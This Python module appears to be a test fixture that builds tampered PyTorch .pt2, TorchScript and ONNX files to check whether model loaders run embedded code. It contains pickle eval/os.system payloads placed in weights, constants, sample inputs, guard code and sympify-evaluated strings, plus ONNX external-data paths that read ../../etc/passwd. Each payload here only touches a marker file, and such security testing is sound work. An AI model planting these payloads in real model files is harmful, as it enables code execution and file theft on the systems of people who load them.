"""Tampered copies of a real ``.pt2`` export: a payload in every place of the archive torch reads code from.

Used by ``tests/export/test_pt2_payloads.py`` and ``benchmarks/hostile_inputs.py`` (which also
builds ONNX files with external data outside their folder and TorchScript files with a pickle
payload, from the functions at the end). Each
payload touches a marker file when it runs; the pickled ones then return a value of the
right kind (valid sample inputs, a weight of the right shape), so a loader that runs them
would go on and work normally, as the report of the hole found.

The places (``PT2_PAYLOADS``):

- ``sample inputs``: ``data/sample_inputs/model.pt`` (torch >= 2.6 retries it without
  ``weights_only`` when the safe load fails);
- ``legacy weights`` / ``legacy constants``: ``data/weights/model.pt`` and
  ``data/constants/model.pt``, which torch reads as a pickled state dict;
- ``pickled weight`` / ``pickled constant``: one entry marked ``use_pickle`` in the payload
  config, its file a pickle (``torch.load(weights_only=False)``);
- ``opaque object`` / ``script object``: a constant stored as a pickled Python object
  (``pickle.loads``) or a TorchScript object (``torch._C._pickle_load_obj``);
- ``guard code``: a string in the program's ``guards_code``, which torch ``exec``-s when it
  builds the module;
- ``shape expression`` / ``range constraint``: text that ``sympy.sympify`` evaluates;
- ``old layout: state dict`` / ``old layout: example inputs``: the archive torch 2.4-2.6
  writes (``serialized_*.pt`` beside the program's JSON), with the payload in one part.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from pathlib import Path
from typing import Callable

import torch


class Payload:
    """Pickles to ``eval`` of an expression that runs ``touch MARKER`` and then evaluates to ``value``."""

    def __init__(self, marker: str | Path, value: str = "None") -> None:
        self.command = f"touch {marker}"
        self.value = value

    def __reduce__(self):
        return (eval, (f"(__import__('os').system({self.command!r}), {self.value})[1]",))


Members = dict[str, bytes]


def _saved(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _member(files: Members, suffix: str) -> str:
    return next(n for n in files if n.endswith(suffix))


def _prefix(files: Members) -> str:
    """The archive's top folder ("archive/", "model/", ...): every member of a PT2 archive is inside it."""
    return _member(files, "archive_format")[: -len("archive_format")]


def _edit_json(files: Members, suffix: str, change: Callable[[dict], None]) -> None:
    name = _member(files, suffix)
    tree = json.loads(files[name])
    change(tree)
    files[name] = json.dumps(tree).encode()


def _sample_inputs(files: Members, marker: Path) -> None:
    name = _member(files, "data/sample_inputs/model.pt")
    inputs = torch.load(io.BytesIO(files[name]), weights_only=True)
    shape = tuple(inputs[0][0].shape)
    files[name] = _saved(Payload(marker, f"((__import__('torch').zeros{shape},), {{}})"))


def _legacy(kind: str) -> Callable[[Members, Path], None]:
    def add(files: Members, marker: Path) -> None:
        files[f"{_prefix(files)}data/{kind}/model.pt"] = _saved({"payload": Payload(marker)})

    return add


def _pickled_weight(files: Members, marker: Path) -> None:
    def mark(tree: dict) -> None:
        entry = next(iter(tree["config"].values()))
        entry["use_pickle"] = True
        shape = tuple(s["as_int"] for s in entry["tensor_meta"]["sizes"])
        files[f"{_prefix(files)}data/weights/{entry['path_name']}"] = _saved(
            Payload(marker, f"__import__('torch').nn.Parameter(__import__('torch').zeros{shape})"))

    _edit_json(files, "model_weights_config.json", mark)


def _constant(path_name: str, content: Callable[[Path], bytes]) -> Callable[[Members, Path], None]:
    def add(files: Members, marker: Path) -> None:
        def declare(tree: dict) -> None:
            tree["config"]["payload"] = {"path_name": path_name, "is_param": False, "use_pickle": True,
                                         "tensor_meta": None}

        _edit_json(files, "model_constants_config.json", declare)
        files[f"{_prefix(files)}data/constants/{path_name}"] = content(marker)

    return add


def _guard_code(files: Members, marker: Path) -> None:
    def add(tree: dict) -> None:
        tree["guards_code"] = [f"__import__('os').system('touch {marker}') == 0"]

    _edit_json(files, "models/model.json", add)


def _shape_expression(files: Members, marker: Path) -> None:
    name = _member(files, "models/model.json")
    text = files[name].decode()
    start = text.index('"expr_str": "') + len('"expr_str": "')
    end = text.index('"', start)
    evil = f"{text[start:end]} + 0*__import__('os').system('touch {marker}')"
    files[name] = (text[:start] + evil + text[end:]).encode()


def _range_constraint(files: Members, marker: Path) -> None:
    def add(tree: dict) -> None:
        tree["range_constraints"][f"__import__('os').system('touch {marker}')"] = {"min_val": 0, "max_val": 1}

    _edit_json(files, "models/model.json", add)


def _old_layout_parts(files: Members) -> Members:
    """The members of the zip torch 2.4-2.6 wrote for the same program (``files`` is a genuine export)."""
    from torch._export.serde.schema import SCHEMA_VERSION
    from torch._export.serde.serialize import serialize

    artifact = serialize(torch.export.load(io.BytesIO(_zipped(files))))
    parts = {"serialized_exported_program.json": artifact.exported_program,
             "serialized_state_dict.pt": artifact.state_dict,
             "serialized_constants.pt": artifact.constants,
             "serialized_example_inputs.pt": artifact.example_inputs,
             "version": ".".join(map(str, SCHEMA_VERSION)).encode()}
    parts.update({f"extra_files/{n.split('/extra/', 1)[1]}": files[n] for n in files if "/extra/" in n})
    return parts


def _old_layout(part: str) -> Callable[[Members, Path], None]:
    def rebuild(files: Members, marker: Path) -> None:
        parts = _old_layout_parts(files)
        parts[part] = _saved({"payload": Payload(marker)})
        files.clear()
        files.update(parts)

    return rebuild


PT2_PAYLOADS: dict[str, Callable[[Members, Path], None]] = {
    "sample inputs": _sample_inputs,
    "legacy weights": _legacy("weights"),
    "legacy constants": _legacy("constants"),
    "pickled weight": _pickled_weight,
    "pickled constant": _constant("tensor_constant_payload", lambda marker: _saved(Payload(marker))),
    "opaque object": _constant("opaque_obj_payload", lambda marker: pickle.dumps(Payload(marker))),
    "script object": _constant("custom_obj_payload", lambda marker: pickle.dumps(Payload(marker))),
    "guard code": _guard_code,
    "shape expression": _shape_expression,
    "range constraint": _range_constraint,
    "old layout: state dict": _old_layout("serialized_state_dict.pt"),
    "old layout: example inputs": _old_layout("serialized_example_inputs.pt"),
}


def _zipped(files: Members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def tampered_pt2(source: str | Path, place: str, out: str | Path, marker: str | Path) -> Path:
    """Write ``out``: the ``.pt2`` file ``source`` with a payload (touching ``marker``) at ``place``."""
    if place not in PT2_PAYLOADS:
        raise ValueError(f"unknown payload place {place!r}; known: {', '.join(PT2_PAYLOADS)}")
    with zipfile.ZipFile(source) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    PT2_PAYLOADS[place](files, Path(marker))
    out = Path(out)
    out.write_bytes(_zipped(files))
    return out


def old_layout_pt2(source: str | Path, out: str | Path) -> Path:
    """``source`` rewritten as torch 2.4-2.6 wrote ``.pt2`` files, with no payload: what an older install exports."""
    with zipfile.ZipFile(source) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    out = Path(out)
    out.write_bytes(_zipped(_old_layout_parts(files)))
    return out


def onnx_with_external_data(source: str | Path, out: str | Path, location: str, link_to: str | None = None) -> Path:
    """``source`` (an ONNX file) whose first weight is read from ``location`` (``../../etc/passwd``, an
    absolute path, or with ``link_to`` a symlink of that name beside ``out`` pointing there)."""
    import onnx
    from onnx.external_data_helper import set_external_data

    proto = onnx.load(str(source))
    weight = max(proto.graph.initializer, key=lambda t: len(t.raw_data))
    set_external_data(weight, location=location)
    weight.ClearField("raw_data")
    weight.data_location = onnx.TensorProto.EXTERNAL
    out = Path(out)
    if link_to is not None:
        (out.parent / location).unlink(missing_ok=True)
        os.symlink(link_to, out.parent / location)
    onnx.save(proto, str(out))
    return out


def torchscript_with_payload(source: str | Path, member: str, out: str | Path, marker: str | Path) -> Path:
    """``source`` (a TorchScript file) with its ``data.pkl`` or ``constants.pkl`` replaced by a payload."""
    with zipfile.ZipFile(source) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    name = _member(files, f"/{member}")
    files[name] = pickle.dumps(Payload(marker), protocol=2)
    out = Path(out)
    out.write_bytes(_zipped(files))
    return out
